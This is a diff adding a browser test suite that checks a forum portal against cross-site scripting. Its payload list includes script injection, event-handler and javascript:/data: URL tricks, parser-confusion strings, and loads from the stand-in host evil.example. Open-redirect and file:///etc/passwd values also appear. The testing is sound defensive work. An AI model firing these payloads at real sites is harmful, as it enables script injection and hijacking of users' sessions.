@@ -1,0 +1,279 @@
+"""Hostile text in everything that a person can type: in Chromium none of it runs, asks for anything or leads astray."""
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Page
+
+from portal.accounts.models import User
+from portal.core.models import ProblemReport
+from tests.browser.watch import Watch
+from tests.browser.world import World
+from tools.page_types import BOARD, MEMBER, MODERATOR
+
+SCRIPT = "<script>window.__pwned=1</script>"
+# Each sets a flag, opens a dialogue or asks another host: the watch sees the latter two.
+PAYLOADS = (
+    SCRIPT,
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<script\x0b>window.__pwned=1</script\x0b>",
+    "<<script>window.__pwned=1//<</script>",
+    "</textarea></title></style><script>window.__pwned=1</script>",
+    '"><script>window.__pwned=1</script>',
+    "' autofocus onfocus=window.__pwned=1 x='",
+    '" autofocus onfocus="window.__pwned=1" x="',
+    "<img src=x onerror=window.__pwned=1>",
+    "<img src='/nowhere.png' onerror='alert(1)'>",
+    "<img src=//evil.example/pixel.gif>",
+    "<img srcset='//evil.example/pixel.gif 1x'>",
+    "<body onload=window.__pwned=1>",
+    "<details open ontoggle=window.__pwned=1>x</details>",
+    "<input autofocus onfocus=window.__pwned=1>",
+    "<video><source onerror=window.__pwned=1></video>",
+    "<a href='javascript:window.__pwned=1'>press me</a>",
+    "[plain](javascript:window.__pwned=1)",
+    "[mixed](JaVaScRiPt:window.__pwned=1)",
+    "[entity](javascript&#58;window.__pwned=1)",
+    "[entities](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.__pwned=1)",
+    "[named](javascript&colon;window.__pwned=1)",
+    "[tab](java&Tab;script:window.__pwned=1)",
+    "[newline](java&NewLine;script:window.__pwned=1)",
+    "[percent](javascript%3Awindow.__pwned=1)",
+    "[space](< javascript:window.__pwned=1>)",
+    "[control](<\x01javascript:window.__pwned=1>)",
+    "[reference][bad]\n\n[bad]: javascript:window.__pwned=1",
+    "<javascript:window.__pwned=1>",
+    "![image](javascript:window.__pwned=1)",
+    '[title](https://peer.example ""onmouseover=window.__pwned=1 x="")',
+    "[vb](vbscript:msgbox(1))",
+    "[data](data:text/html,<script>window.__pwned=1</script>)",
+    "[data64](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
+    "![svg](data:image/svg+xml,<svg onload=window.__pwned=1>)",
+    "[file](file:///etc/passwd)",
+    "<svg onload=window.__pwned=1></svg>",
+    "<svg><script>window.__pwned=1</script></svg>",
+    "<svg><a xlink:href='javascript:window.__pwned=1'><text y=20>press me</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:window.__pwned=1 onbegin=window.__pwned=1></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe></foreignObject></svg>",
+    "<math href='javascript:window.__pwned=1'>press me</math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
+    "<b><i></b><script>window.__pwned=1</script></i>",
+    "<div><p><table><a href='javascript:window.__pwned=1'><td>x",
+    "<!--><img src=x onerror=window.__pwned=1>-->",
+    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
+    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/b.gif)}</style>",
+    "<p style='background:url(javascript:window.__pwned=1)'>x</p>",
+    "<div style='position:fixed;inset:0;z-index:9999'>cover</div>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<base href=//evil.example/>",
+    "<iframe src='javascript:parent.__pwned=1'></iframe>",
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
+    "<object data='javascript:window.__pwned=1'></object>",
+    "<embed src='javascript:window.__pwned=1'>",
+    "<form action='javascript:window.__pwned=1'><button>press me</button></form>",
+    "<button formaction='javascript:window.__pwned=1'>press me</button>",
+    "`<script>window.__pwned=1</script>`",
+    "```\n</code></pre><script>window.__pwned=1</script>\n```",
+    "| a |\n|---|\n| <img src=x onerror=window.__pwned=1> |",
+    "{{ 7|add:'7' }}{% debug %}${window.__pwned=1}",
+    "\u202e<script>window.__pwned=1</script>\u2066\ufeff\u0000",
+)
+LINES = [payload.replace("\n", " ") for payload in PAYLOADS]
+STRANGE_ADDRESSES = (
+    "javascript:window.__pwned=1",
+    "//evil.example/",
+    "/\\evil.example",
+    '/"><script>window.__pwned=1</script>',
+)
+# Names have room for 120 characters.
+SHORT = [line for line in LINES if len(line) <= 110]
+
+FOUND_IN_PAGE = """() => {
+  const bad = [];
+  if (window.__pwned !== undefined) bad.push("a script ran");
+  const away = (value) => {
+    try { return new URL(value, location.href).host === "evil.example"; } catch { return false; }
+  };
+  const risky = /^[\\u0000-\\u0020]*(javascript|vbscript|data|file):/i;
+  for (const part of document.querySelectorAll("*")) {
+    for (const {name, value} of part.attributes) {
+      if (/^on/i.test(name)) bad.push(`${part.tagName} has ${name}`);
+      const leads = /^(href|src|srcset|action|formaction|data|xlink:href|srcdoc|background|poster|ping)$/i.test(name);
+      if (leads && part.tagName !== "A" && away(value)) bad.push(`${part.tagName} ${name}=${value}`);
+      if (leads && risky.test(value)) bad.push(`${part.tagName} ${name}=${value}`);
+      if (name === "style") bad.push(`${part.tagName} has a style`);
+    }
+  }
+  const ours = "script[src^='/static/'], svg[aria-hidden], svg.dial, svg[role=img]";
+  for (const part of document.querySelectorAll(
+    "script, style, iframe, object, embed, base, meta[http-equiv], main math, main svg"))
+    if (!part.matches(ours)) bad.push(part.outerHTML.slice(0, 160));
+  return bad;
+}"""
+
+
+def harm(page: Page) -> list[str]:
+    """What hostile text achieved on `page`: nothing, one hopes. Every link in what members wrote is pressed as well."""
+    found: list[str] = page.evaluate(FOUND_IN_PAGE)
+    page.evaluate(
+        """() => { for (const link of document.querySelectorAll(".prose a, .prose button")) {
+             link.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
+             link.dispatchEvent(new FocusEvent("focus"));
+             if (!/^https?:/.test(link.href ?? "")) link.click();
+        } }"""
+    )
+    page.wait_for_timeout(50)
+    return [
+        *found,
+        *(["a script ran when a link was pressed"] if page.evaluate("window.__pwned !== undefined") else []),
+    ]
+
+
+@pytest.fixture
+def unlimited(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Hostile people are patient; the tests are not."""
+    monkeypatch.setattr("forums.limits.POSTS_PER_HOUR", 10_000)
+    monkeypatch.setattr("forums.limits.POSTS_PER_HOUR_OF_NEW_MEMBERS", 10_000)
+
+
+def post(page: Page, path: str, button: str, fields: dict[str, str]) -> Page:
+    """Fill in the form at `path` with `fields` by name, without the browser's own help, and press `button`."""
+    page.goto(path)
+    for name, value in fields.items():
+        page.locator(f"main [name={name}]").evaluate("(field, value) => { field.value = value; }", value)
+    page.locator("main").get_by_role("button", name=button, exact=True).click()
+    page.wait_for_load_state()
+    return page
+
+
+def test_questions_and_answers_run_nothing(
+    open_as: Callable[..., Page], writes: World, unlimited: None, watch: Watch
+) -> None:
+    """All payloads in a few long posts, and again one by one in the preview, where nothing stands before them."""
+    member, visitor = open_as(MEMBER), open_as()
+    body = "\n\n".join(PAYLOADS)
+    question = {"title": "Does this text harm anybody who reads it?", "body": body}
+    previewed = post(member, BOARD + "new/", "Preview", question)
+    assert harm(previewed) == []
+    asked = post(member, BOARD + "new/", "Ask the question", question)
+    assert asked.locator(".question-post").count() == 1, asked.locator("main").inner_text()[:500]
+    address = asked.url
+    assert harm(asked) == []
+    answered = post(member, address, "Post the answer", {"body": body[::1] + "\n\n- " + "\n- ".join(LINES)})
+    assert harm(answered) == []
+    visitor.goto(address)
+    assert visitor.locator(".post").count() == 2
+    assert harm(visitor) == []
+    visitor.goto("/search/?q=evil.example")
+    assert harm(visitor) == []
+
+
+def test_each_payload_alone_runs_nothing(open_as: Callable[..., Page], unlimited: None) -> None:
+    member = open_as(MEMBER)
+    harmed = {}
+    member.goto(BOARD + "new/")
+    for payload in PAYLOADS:
+        member.locator("main [name=title]").evaluate("(field, value) => { field.value = value; }", payload)
+        member.locator("main [name=body]").evaluate("(field, value) => { field.value = value; }", payload)
+        member.get_by_role("button", name="Preview").click()
+        member.wait_for_load_state()
+        if found := harm(member):
+            harmed[payload] = found
+    assert harmed == {}
+
+
+def test_titles_run_nothing_wherever_they_stand(open_as: Callable[..., Page], writes: World, unlimited: None) -> None:
+    member, visitor, moderator = open_as(MEMBER), open_as(), open_as(MODERATOR)
+    harmed = {}
+    for start in range(0, len(SHORT), 12):
+        title = SHORT[start]
+        topic = post(member, BOARD + "new/", "Ask the question", {"title": f"{title} harms?", "body": "Nothing here."})
+        if found := harm(topic):
+            harmed[title] = found
+    for page, path in ((visitor, BOARD), (visitor, "/forums/"), (visitor, "/"), (moderator, BOARD)):
+        page.goto(path)
+        if found := harm(page):
+            harmed[path] = found
+    visitor.goto("/search/?q=harms")
+    harmed |= {"search": found} if (found := harm(visitor)) else {}
+    visitor.locator("#masthead-search").press_sequentially("<s")
+    visitor.wait_for_timeout(400)
+    harmed |= {"suggestions": found} if (found := harm(visitor)) else {}
+    assert harmed == {}
+
+
+def test_names_and_organisations_run_nothing(open_as: Callable[..., Page], writes: World, unlimited: None) -> None:
+    member, visitor = open_as(MEMBER), open_as()
+    harmed = {}
+    asked = post(member, BOARD + "new/", "Ask the question", {"title": "Who am I, really?", "body": "Guess."})
+    address = asked.url
+    for at, payload in enumerate((*SHORT, SCRIPT)):
+        saved = post(member, "/accounts/", "Save the profile", {"name": payload, "organisation": SHORT[-at]})
+        if found := harm(saved):
+            harmed[payload] = found
+        if at % 10 == 0:
+            visitor.goto(address)
+            if found := harm(visitor):
+                harmed[f"{payload} (topic)"] = found
+    assert harmed == {}
+    assert User.objects.get(email="member@demo.example").name == SCRIPT
+
+
+def test_reports_of_problems_run_nothing(open_as: Callable[..., Page], writes: World, watch: Watch) -> None:
+    watch.expect("console warning", "status of 404")
+    visitor, moderator = open_as(), open_as(MODERATOR)
+    harmed = {}
+    for address in STRANGE_ADDRESSES:
+        visitor.goto("/")
+        visitor.goto("/report/?" + visitor.evaluate("page => new URLSearchParams({page}).toString()", address))
+        if found := harm(visitor):
+            harmed[address] = found
+    typed = {"message": "\n".join(PAYLOADS)[:4000], "page": LINES[16]}
+    sent = post(visitor, "/report/?page=/cases/", "Send the report", typed)
+    if found := harm(sent):
+        harmed["thanks"] = found
+    report = ProblemReport.objects.get()
+    for path in ("/admin/problem_reports/", f"/admin/problem_reports/edit/{report.pk}/"):
+        moderator.goto(path)
+        if moderator.evaluate("window.__pwned !== undefined"):
+            harmed[path] = ["a script ran"]
+    assert harmed == {}
+
+
+@pytest.mark.parametrize("path", ["/search/", "/glossary/", "/cases/", BOARD])
+def test_addresses_run_nothing(path: str, open_as: Callable[..., Page], watch: Watch) -> None:
+    watch.expect("status of 404", "status of 400")
+    visitor = open_as()
+    visitor.goto("/")
+    harmed = {}
+    for payload in PAYLOADS:
+        values = {"q": payload, "level": payload, "page": payload, "sort": payload, "scheme": "", "show": payload}
+        query = visitor.evaluate("values => new URLSearchParams(values).toString()", values)
+        answer = visitor.goto(f"{path}?{query}")
+        assert answer is not None
+        if answer.status >= 500:
+            harmed[payload] = [str(answer.status)]
+        if found := harm(visitor):
+            harmed[payload] = found
+    assert harmed == {}
+
+
+def test_sign_up_and_sign_in_run_nothing(open_as: Callable[..., Page], writes: World) -> None:
+    visitor = open_as()
+    harmed = {}
+    for payload in SHORT[::3]:
+        fields = {"email": payload, "name": payload, "organisation": payload}
+        tried = post(visitor, "/accounts/signup/", "Create the account", fields)
+        if found := harm(tried):
+            harmed[payload] = found
+        tried = post(visitor, "/accounts/login/", "Sign in", {"login": payload, "password": payload})
+        if found := harm(tried):
+            harmed[f"{payload} (sign-in)"] = found
+    for address in ("javascript:window.__pwned=1", "//evil.example/", "https://evil.example/"):
+        visitor.goto(f"/accounts/login/?next={address}")
+        if found := harm(visitor):
+            harmed[address] = found
+    assert harmed == {}
